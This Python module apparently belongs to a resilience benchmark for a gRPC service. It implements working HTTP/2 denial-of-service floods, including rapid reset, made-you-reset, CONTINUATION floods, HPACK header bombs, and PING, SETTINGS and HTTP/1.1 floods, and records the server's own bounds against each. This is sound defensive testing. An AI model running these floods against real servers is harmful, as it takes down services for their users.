"""Floods of cheap frames, and headers of every size, from peers without a token."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import struct
from collections.abc import Callable

from bench.attack.peer import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    N_CONNECTIONS,
    PING,
    PRIORITY,
    RST,
    SETTINGS,
    WINDOW,
    Peer,
    everyone,
    frame,
    indexed,
    literal,
    message,
    request,
    settings,
)
from bench.attack.rows import Attack, row

N_AT_A_TIME = 100
MOST_ROUNDS = 20_000
MOST_CONNECTS = 500
STAY_S = 0.03
OWN_BOUNDS = "grpc's own bounds"
Frames = Callable[[str, Peer], bytes]


async def flood(attack: Attack, one: Frames, begin: Frames | None, reads: bool) -> None:
    """Send chunks over connections, anew where the server closes them, until all is sent."""

    async def connection() -> None:
        for _ in range(MOST_CONNECTS):
            try:
                peer = await Peer.open(attack.address, reads=reads)
            except (OSError, TimeoutError):
                attack.note("connections refused")
                await asyncio.sleep(0.1)
                continue
            attack.note("connections")
            with contextlib.suppress(ConnectionError):
                if begin is not None:
                    await peer.send(begin(attack.address, peer))
                for _ in range(MOST_ROUNDS):
                    await peer.send(b"".join(one(attack.address, peer) for _ in range(N_AT_A_TIME)))
                    attack.note("frames", N_AT_A_TIME)
                    # The reader of this connection, and the other ones, come to turn.
                    await asyncio.sleep(0)
                return
            await peer.close()

    await asyncio.gather(*(connection() for _ in range(N_CONNECTIONS)))


def flood_row(
    name: str,
    does: str,
    one: Frames,
    *,
    by: str = OWN_BOUNDS,
    review: str = "held",
    is_short: bool = False,
    begin: Frames | None = None,
    reads: bool = True,
    alone_may_get: str = "",
    needs_front: bool = False,
) -> None:
    """Register a flood; `one` returns a frame, or those that go together."""

    async def run(attack: Attack) -> None:
        await flood(attack, one, begin, reads)

    does = f"without a token, {does}"
    more = {"is_short": is_short, "alone_may_get": alone_may_get, "needs_front": needs_front}
    row(name, review, does, by, is_stranger=True, p99_ratio=2, **more)(run)


@row(
    "control",
    "none",
    does="nothing: its program computes all the time, and what the caller loses is the machine's",
    by="the attacker's program gets what the others leave of the processors",
    is_stranger=True,
    p99_ratio=2,
)
async def control(attack: Attack) -> None:
    data = bytes(1 << 20)
    while True:
        hashlib.sha256(data).digest()
        attack.note("MiB hashed")
        await asyncio.sleep(0)


def _opened(address: str, peer: Peer) -> bytes:
    return frame(HEADERS, END_HEADERS, peer.new_stream(), request(address))


def _rapid_reset(address: str, peer: Peer) -> bytes:
    stream = peer.new_stream()
    head = frame(HEADERS, END_HEADERS, stream, request(address))
    return head + frame(RST, 0, stream, struct.pack(">I", 8))


def _made_you_reset(address: str, peer: Peer) -> bytes:
    # A window that grows by nothing is an error, for which the server resets the stream.
    stream = peer.new_stream()
    head = frame(HEADERS, END_HEADERS, stream, request(address))
    return head + frame(WINDOW, 0, stream, bytes(4))


def _unknown(address: str, peer: Peer) -> bytes:
    block = request(address, "/tokalign.v1.AlignService/Nothing")
    return frame(HEADERS, END_HEADERS | END_STREAM, peer.new_stream(), block)


def _ping(address: str, peer: Peer) -> bytes:
    return frame(PING, 0, 0, b"12345678")


def _settings(address: str, peer: Peer) -> bytes:
    return settings(window=65_535)


flood_row(
    "rapid-reset",
    "streams opened and reset at once",
    _rapid_reset,
    alone_may_get="CANCELLED",  # grpc's queue of calls is one for all
)
flood_row("made-you-reset", "streams that the server must reset", _made_you_reset)
flood_row("unknown-methods", "calls of methods that do not exist", _unknown)
flood_row("pings", "PING floods by peers that read", _ping)
flood_row(
    "unread-pings",
    "PING floods by peers that never read",
    _ping,
    by="peers that ping without pause, or read nothing, are cut off",
    review="14",
    is_short=True,
    reads=False,
)
flood_row(
    "unread-settings",
    "SETTINGS floods by peers that never read",
    _settings,
    by="peers that read nothing are cut off",
    review="14",
    reads=False,
)
flood_row("settings", "SETTINGS floods", _settings)
flood_row("settings-acks", "acknowledgements of nothing", lambda a, p: frame(SETTINGS, ACK, 0))
flood_row(
    "window-updates",
    "WINDOW_UPDATE floods",
    lambda address, peer: frame(WINDOW, 0, 1, struct.pack(">I", 1)),
    begin=_opened,
)
flood_row(
    "priorities",
    "PRIORITY floods",
    lambda address, peer: frame(PRIORITY, 0, peer.new_stream(), b"\0\0\0\0\1"),
)
flood_row("empty-data", "empty DATA floods", lambda a, p: frame(DATA, 0, 1), begin=_opened)
flood_row(
    "continuations",
    "CONTINUATION frames without an end",
    lambda address, peer: frame(CONTINUATION, 0, 1, bytes(FRAME_BYTES)),
    by="grpc bounds a header block",
    begin=lambda address, peer: frame(HEADERS, 0, peer.new_stream(), request(address)),
)


def _health(address: str, peer: Peer) -> bytes:
    block = request(address, "/grpc.health.v1.Health/Check")
    stream = peer.new_stream()
    head = frame(HEADERS, END_HEADERS, stream, block)
    return head + frame(DATA, END_STREAM, stream, message(b""))


flood_row("health-calls", "health checks, which need no token", _health, needs_front=True)


@row(
    "short-lived",
    "none",
    does="without a token, connections that make one call each and go",
    by="the layer in front shares among new connections what they may begin",
    is_stranger=True,
    p99_ratio=2,
)
async def short_lived(attack: Attack) -> None:
    async def connections() -> None:
        while True:
            try:
                peer = await Peer.open(attack.address)
            except (OSError, TimeoutError):
                attack.note("connections refused")
                await asyncio.sleep(STAY_S)
                continue
            attack.note("connections")
            with contextlib.suppress(ConnectionError):
                await peer.send(_unknown(attack.address, peer))
                await asyncio.sleep(STAY_S)
            attack.note("calls answered", peer.ended)
            await peer.close()

    await asyncio.gather(*(connections() for _ in range(N_CONNECTIONS)))


HTTP1_CALL = b"GET /v1/align HTTP/1.1\r\nhost: localhost\r\n\r\n"


@row(
    "http1-calls",
    "none",
    does="without a token, calls over HTTP/1.1 that do not wait for their answers",
    by="grpc takes no HTTP/1.1, and the layer in front paces who is refused",
    is_stranger=True,
    p99_ratio=2,
)
async def http1_calls(attack: Attack) -> None:
    async def connections() -> None:
        host, _, port = attack.address.rpartition(":")
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
                attack.note("connections")
                while True:
                    writer.write(HTTP1_CALL * N_AT_A_TIME)
                    attack.note("calls", N_AT_A_TIME)
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        if not await asyncio.wait_for(reader.read(1 << 16), STAY_S):
                            break
                writer.close()
            except OSError:
                attack.note("connections closed")
                await asyncio.sleep(STAY_S)

    await asyncio.gather(*(connections() for _ in range(N_CONNECTIONS)))


def _split(peer: Peer, block: bytes) -> bytes:
    """Return a call's header block in as many frames as it takes."""
    stream = peer.new_stream()
    pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    frames = []
    for number, piece in enumerate(pieces):
        flags = END_HEADERS if number == len(pieces) - 1 else 0
        frames.append(frame(CONTINUATION if number else HEADERS, flags, stream, piece))
    return b"".join(frames)


async def _headers(attack: Attack, block: bytes) -> None:
    """Send calls with a header block over connections, each anew where it is closed."""

    async def connection() -> None:
        for _ in range(MOST_CONNECTS):
            peer = await Peer.open(attack.address)
            attack.note("connections")
            with contextlib.suppress(ConnectionError):
                for _ in range(1_000):
                    await peer.send(_split(peer, block))
                    attack.note("blocks")
                    await asyncio.sleep(0)
            await peer.close()

    await everyone(attack, [connection() for _ in range(N_CONNECTIONS)])


def _header_row(
    name: str, does: str, block: Callable[[str], bytes], needs_front: bool = True
) -> None:
    async def run(attack: Attack) -> None:
        await _headers(attack, block(attack.address))

    by = "grpc bounds a header block"
    does = f"without a token, {does}"
    row(name, "held", does, by, is_stranger=True, p99_ratio=2, needs_front=needs_front)(run)


def _bomb(address: str, n_bytes: int = 3_900, n_times: int = 10_000) -> bytes:
    """Return a block of one long field, kept in the table and then named many times."""
    kept = literal(b"x-kept", b"k" * n_bytes, is_indexed=True)
    return request(address) + kept + indexed(62) * n_times


_header_row(
    "large-headers",
    "header fields of 1 MiB",
    lambda address: request(address) + literal(b"x-large", b"l" * (1 << 20)),
)
_header_row(
    "many-headers",
    "20,000 header fields",
    lambda address: request(address) + literal(b"x", b"y") * 20_000,
)
_header_row("hpack-bomb", "one header field named 10,000 times by its index", _bomb)
_header_row(
    "small-bombs",
    "one header field named 10,000 times, in blocks just small enough for the layer in front",
    lambda address: _bomb(address, 1_000),
)
_header_row(
    "hpack-missing",
    "10,000 header fields by an index that names nothing",
    lambda address: request(address) + indexed(200) * 10_000,
    needs_front=False,  # grpc ends the connection at the first
)
